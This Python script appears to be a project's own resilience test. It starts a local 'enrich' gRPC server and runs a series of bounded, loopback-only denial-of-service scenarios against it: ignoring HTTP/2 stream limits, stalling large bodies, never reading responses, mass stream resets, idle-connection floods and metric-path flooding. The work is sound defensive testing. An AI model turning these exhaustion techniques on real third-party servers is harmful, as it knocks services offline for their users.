#!/usr/bin/env python3
"""Attacks a release `enrich serve` on loopback, one finding of issue 21 at a
time, and prints what each did to the server: CPU, memory, health latency and
how the calls ended. Each scenario starts its own server, so one cannot hide
another. Only 127.0.0.1 is contacted; every loop is bounded.

Run through scripts/attack.sh (it builds the binary and installs grpcio and
h2 into target/attack-venv): `scripts/attack.sh [scenario ...]`.
"""

import argparse
import faulthandler
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.request

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
BINARY = os.environ.get("ENRICH_BIN", os.path.join(ROOT, "target", "release", "enrich"))
ENRICH = "/enrich.v1.EnrichService/Enrich"


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def pb_string(field, text):
    """A protobuf length-delimited field (enough to build requests by hand)."""
    data = text.encode() if isinstance(text, str) else text
    key, length, out = (field << 3) | 2, len(data), bytearray()
    out.append(key)
    while True:
        byte = length & 0x7F
        length >>= 7
        out.append(byte | (0x80 if length else 0))
        if not length:
            break
    return bytes(out) + data


def enrich_request(text, doc_id="a"):
    return pb_string(1, pb_string(1, doc_id) + pb_string(2, text))


def grpc_frame(message):
    return struct.pack(">BI", 0, len(message)) + message


SERVERS = []


class Server:
    def __init__(self, *args):
        SERVERS.append(self)
        self.port, self.metrics_port = free_port(), free_port()
        self.log_path = f"/tmp/enrich-attack-{self.port}.log"
        self.proc = subprocess.Popen(
            [BINARY, "serve", "--listen", f"127.0.0.1:{self.port}", "--metrics-listen",
             f"127.0.0.1:{self.metrics_port}", "--log-format", "json", *args],
            stderr=open(self.log_path, "w"),
        )
        self.channel = grpc.insecure_channel(f"127.0.0.1:{self.port}",
                                             options=[("grpc.max_send_message_length", 64 << 20),
                                                      ("grpc.max_receive_message_length", 64 << 20)])
        grpc.channel_ready_future(self.channel).result(timeout=30)
        self.enrich = self.channel.unary_unary(ENRICH)
        self.health = self.channel.unary_unary("/grpc.health.v1.Health/Check")
        self.enrich(enrich_request("Paris is in France."), timeout=30)
        self.base_rss = self.rss()

    def status(self, field):
        for line in open(f"/proc/{self.proc.pid}/status"):
            if line.startswith(field):
                return int(line.split()[1]) / 1024
        return 0.0

    def rss(self):
        return self.status("VmRSS:")

    def peak(self):
        return self.status("VmHWM:")

    def cpu(self):
        fields = open(f"/proc/{self.proc.pid}/stat").read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def health_ms(self):
        """Health latency through a fresh connection, as a probe sees it."""
        started = time.monotonic()
        channel = grpc.insecure_channel(f"127.0.0.1:{self.port}")
        try:
            channel.unary_unary("/grpc.health.v1.Health/Check")(b"", timeout=5)
            return (time.monotonic() - started) * 1000
        except grpc.RpcError as e:
            return f"failed ({e.code().name})"
        finally:
            channel.close()

    def metrics(self):
        return urllib.request.urlopen(f"http://127.0.0.1:{self.metrics_port}/metrics", timeout=10).read()

    def stop(self):
        self.channel.close()
        started = time.monotonic()
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
        return time.monotonic() - started


def report(name, server, **facts):
    facts.setdefault("rss_growth_mb", round(server.peak() - server.base_rss))
    facts.setdefault("peak_rss_mb", round(server.peak()))
    print(f"{name}: " + ", ".join(f"{k}={v}" for k, v in facts.items()), flush=True)


class RawH2:
    """A hand-driven HTTP/2 client connection, to send what grpcio will not."""

    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        self.flush()
        self.events = []

    def ignore_stream_limit(self):
        """Opens streams past the server's advertised limit, as an attacker would."""
        import h2.settings
        settings = self.conn.remote_settings
        settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 2**31 - 1
        settings.acknowledge()

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout=0.0):
        self.sock.settimeout(timeout if timeout else 0.001)
        try:
            data = self.sock.recv(1 << 16)
            if not data:
                return False
            self.events += self.conn.receive_data(data)
            self.flush()
        except (socket.timeout, BlockingIOError):
            pass
        return True

    def answered(self, stream):
        """Whether the server has ended or reset `stream`."""
        return any(getattr(e, "stream_id", None) == stream
                   and isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)) for e in self.events)

    def open_stream(self, path=ENRICH):
        stream = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream, [(":method", "POST"), (":scheme", "http"), (":path", path),
                                        (":authority", "127.0.0.1"), ("content-type", "application/grpc"),
                                        ("te", "trailers")])
        return stream


def scenario_dates(_):
    server = Server()
    unit = "12 March 2020 $4.5bn 34% 10:30 1,234,567 "
    times = {}
    for size in (256 * 1024, 1024 * 1024):
        text = (unit * (size // len(unit) + 1))[:size]
        started = time.monotonic()
        server.enrich(enrich_request(text), timeout=120)
        times[size] = time.monotonic() - started
    report("1. one sentence of dates and numbers", server, s_256k=round(times[256 * 1024], 2),
           s_1m=round(times[1024 * 1024], 2), growth_x=round(times[1024 * 1024] / times[256 * 1024], 1))
    server.stop()


def scenario_deadline(_):
    server = Server("--max-in-flight", "2")
    text = ("12 March 2020 $4.5bn 34% 10:30 1,234,567 " * 25000)[:1024 * 1024]
    codes = []

    def call():
        try:
            server.enrich(enrich_request(text), timeout=0.2)
            codes.append("OK")
        except grpc.RpcError as e:
            codes.append(e.code().name)

    threads = [threading.Thread(target=call) for _ in range(10)]
    [t.start() for t in threads]
    [t.join() for t in threads]
    returned = server.cpu()
    time.sleep(0.5)
    after_half = server.cpu()
    time.sleep(2.0)
    report("2. ten calls abandoned at a 200 ms deadline", server,
           cpu_s_first_500ms=round(after_half - returned, 2), cpu_s_next_2s=round(server.cpu() - after_half, 2),
           codes={c: codes.count(c) for c in set(codes)})
    server.stop()


def scenario_deadline_stages(_):
    """One 1 MiB news-like document at a time, each with a deadline that
    lands in a different stage: how long the server's CPU keeps going after
    the call has returned."""
    server = Server()
    text = ("The council met in Springfield on Monday and voted on the budget. " * 16000)[:1024 * 1024]
    busy_after = {}
    for deadline in (0.02, 0.06, 0.12, 0.2, 0.3, 0.4):
        try:
            server.enrich(enrich_request(text), timeout=deadline)
            code = "OK"
        except grpc.RpcError as e:
            code = e.code().name
        returned, last, stopped_at = time.monotonic(), server.cpu(), None
        while time.monotonic() - returned < 2.0:
            time.sleep(0.02)
            now = server.cpu()
            if now == last:
                stopped_at = stopped_at or time.monotonic()
                if time.monotonic() - stopped_at >= 0.1:
                    break
            else:
                last, stopped_at = now, None
        busy_after[f"{int(deadline * 1000)}ms {code}"] = round((stopped_at or time.monotonic()) - returned, 2)
    report("2b. deadlines landing in each stage of a 1 MiB document", server, cpu_busy_s_after_return=busy_after)
    server.stop()


def scenario_streams(_):
    server = Server()
    raw = RawH2(server.port)
    raw.pump(0.2)
    raw.ignore_stream_limit()
    opened = 0
    started = time.monotonic()
    while opened < 20000 and time.monotonic() - started < 60:
        raw.open_stream()
        opened += 1
        if opened % 200 == 0:
            raw.flush()
            if not raw.pump():
                break
    raw.flush()
    for _ in range(50):
        raw.pump(0.01)
    refused = sum(1 for e in raw.events if isinstance(e, h2.events.StreamReset))
    health = server.health_ms()
    report("3a. 20,000 stream attempts on one connection", server, attempted=opened, reset_by_server=refused,
           health_ms=health if isinstance(health, str) else round(health))
    raw.sock.close()
    server.stop()


def scenario_stalled(_):
    server = Server()
    conns = []
    size = 8 * 1024 * 1024 - 1024
    for i in range(24):
        raw = RawH2(server.port)
        stream = raw.open_stream()
        body = grpc_frame(enrich_request("x" * size))[: size]  # all but the end
        sent, deadline = 0, time.monotonic() + 20
        while sent < len(body) and time.monotonic() < deadline:
            window = min(raw.conn.local_flow_control_window(stream), raw.conn.max_outbound_frame_size, len(body) - sent)
            try:
                if window > 0:
                    raw.conn.send_data(stream, body[sent:sent + window])
                    sent += window
                    raw.flush()
                elif not raw.pump(0.05) or raw.answered(stream):
                    break  # the server answered (cut the body off) or closed
            except h2.exceptions.StreamClosedError:
                break  # the server cut the body off
        conns.append((raw, sent))
    health = server.health_ms()
    report("3b. 24 bodies of 8 MiB stalled before their end", server,
           mib_sent=round(sum(s for _, s in conns) / 2**20),
           health_ms=health if isinstance(health, str) else round(health))
    for raw, _ in conns:
        raw.sock.close()
    server.stop()


def scenario_never_read(_):
    server = Server(*os.environ.get("ATTACK_SERVER_ARGS", "").split())
    text = ("The council met in Springfield on Monday and voted on the budget. " * 16000)[:1024 * 1024]
    conns = []
    for i in range(8):
        raw = RawH2(server.port)
        stream = raw.open_stream("/enrich.v1.EnrichService/EnrichStream")
        for n in range(20):
            body = grpc_frame(enrich_request(text, f"s{i}-{n}"))
            sent, deadline = 0, time.monotonic() + 5
            while sent < len(body) and time.monotonic() < deadline:
                window = min(raw.conn.local_flow_control_window(stream), raw.conn.max_outbound_frame_size,
                             len(body) - sent)
                if window > 0:
                    raw.conn.send_data(stream, body[sent:sent + window])
                    sent += window
                    raw.flush()
                else:
                    # Read frames (for WINDOW_UPDATE) but never acknowledge
                    # the answers' data: their window is never given back.
                    raw.sock.settimeout(0.05)
                    try:
                        data = raw.sock.recv(1 << 16)
                        raw.conn.receive_data(data)
                        raw.flush()
                    except socket.timeout:
                        pass
            if sent < len(body):
                break  # the server stopped reading this stream: it is full
        conns.append(raw)
    time.sleep(3)
    health = server.health_ms()
    report("4. eight streams of 1 MiB documents, never read", server,
           health_ms=health if isinstance(health, str) else round(health))
    for raw in conns:
        raw.sock.close()
    server.stop()


def scenario_concurrent(_):
    server = Server()
    text = ("The council met in Springfield on Monday and voted on the budget of $5.5 million. " * 4000)[:300_000]
    codes = []

    def call(i):
        try:
            server.enrich(enrich_request(text, f"c{i}"), timeout=300)
            codes.append("OK")
        except grpc.RpcError as e:
            codes.append(e.code().name)

    threads = [threading.Thread(target=call, args=(i,)) for i in range(120)]
    started = time.monotonic()
    [t.start() for t in threads]
    time.sleep(1)
    health = server.health_ms()
    [t.join() for t in threads]
    report("5. 120 concurrent 300 KB calls", server, seconds=round(time.monotonic() - started, 1),
           health_ms=health if isinstance(health, str) else round(health),
           codes={c: codes.count(c) for c in set(codes)})
    server.stop()


def scenario_metrics(_):
    server = Server()
    for i in range(2000):
        try:
            server.channel.unary_unary(f"/made.up.Service{i}/Method{i}")(b"", timeout=5)
        except grpc.RpcError:
            pass
    report("6. 2,000 made-up paths", server, metrics_bytes=len(server.metrics()))
    server.stop()


def scenario_cancel(_):
    server = Server()
    big = "word " * 1_000_000
    for i in range(8):
        future = server.enrich.future(enrich_request(big, f"x{i}"), timeout=30)
        time.sleep(0.002 * i)
        future.cancel()
    time.sleep(1)
    raw = RawH2(server.port)
    for _ in range(10000):
        stream = raw.open_stream()
        raw.conn.reset_stream(stream)
        raw.flush()
        if not raw.pump():
            raw = RawH2(server.port)
    time.sleep(1)
    text = server.metrics().decode()
    handled = [l for l in text.splitlines() if l.startswith("grpc_server_handled_total") and "Enrich\"" in l]
    lines = sum(1 for _ in open(server.log_path))
    report("7. cancelled sends and 10,000 reset streams", server, handled=handled, log_lines=lines)
    server.stop()


def scenario_fields(_):
    server = Server()
    outcomes = {}
    for name, request in [("4 MB id", pb_string(1, pb_string(1, "i" * 4_000_000) + pb_string(2, "Hello."))),
                          ("$999...9", enrich_request("It cost $" + "9" * 400 + ".")),
                          ]:
        try:
            reply = server.enrich(request, timeout=30)
            outcomes[name] = "OK (inf)" if b"inf" in reply else "OK"
        except grpc.RpcError as e:
            outcomes[name] = e.code().name
    report("8. unbounded fields", server, outcomes=outcomes)
    server.stop()


def scenario_shutdown(_):
    server = Server()
    idle = [socket.create_connection(("127.0.0.1", server.port)) for _ in range(20)]
    watch = server.channel.unary_stream("/grpc.health.v1.Health/Watch")(b"")
    took = server.stop()
    print(f"9. SIGTERM with 20 idle connections and a health Watch open: exit after {took:.2f} s", flush=True)
    for s in idle:
        s.close()
    del watch


def scenario_idle(_):
    server = Server()
    held = []
    for _ in range(1100):
        try:
            held.append(socket.create_connection(("127.0.0.1", server.port), timeout=2))
        except OSError:
            break
    time.sleep(1)
    health = server.health_ms()
    started = time.monotonic()
    cpu = server.cpu()
    time.sleep(2)
    report("10. 1,100 idle connections", server, opened=len(held),
           health_ms=health if isinstance(health, str) else round(health),
           cpu_s_in_2s=round(server.cpu() - cpu, 2))
    for s in held:
        s.close()
    server.stop()


SCENARIOS = {
    "dates": scenario_dates, "deadline": scenario_deadline, "deadline-stages": scenario_deadline_stages,
    "streams": scenario_streams,
    "stalled": scenario_stalled, "never-read": scenario_never_read, "concurrent": scenario_concurrent,
    "metrics": scenario_metrics, "cancel": scenario_cancel, "fields": scenario_fields,
    "shutdown": scenario_shutdown, "idle": scenario_idle,
}


def main():
    faulthandler.register(signal.SIGUSR1)
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("scenarios", nargs="*", help=f"any of: {' '.join(SCENARIOS)} (default: all)")
    args = parser.parse_args()
    unknown = [n for n in args.scenarios if n not in SCENARIOS]
    if unknown:
        sys.exit(f"unknown scenario {unknown}; choose from {' '.join(SCENARIOS)}")

    def too_long(*_):
        raise TimeoutError("the scenario took more than 120 s")

    signal.signal(signal.SIGALRM, too_long)
    for name in args.scenarios or SCENARIOS:
        signal.alarm(120)
        try:
            SCENARIOS[name](args)
        except Exception as e:  # report and go on with the next scenario
            print(f"{name}: the attack script failed: {type(e).__name__}: {e}", flush=True)
        finally:
            signal.alarm(0)
            for server in SERVERS:
                if server.proc.poll() is None:
                    server.proc.kill()
            SERVERS.clear()
    # grpcio's threads can keep the interpreter from exiting.
    os._exit(0)


if __name__ == "__main__":
    main()
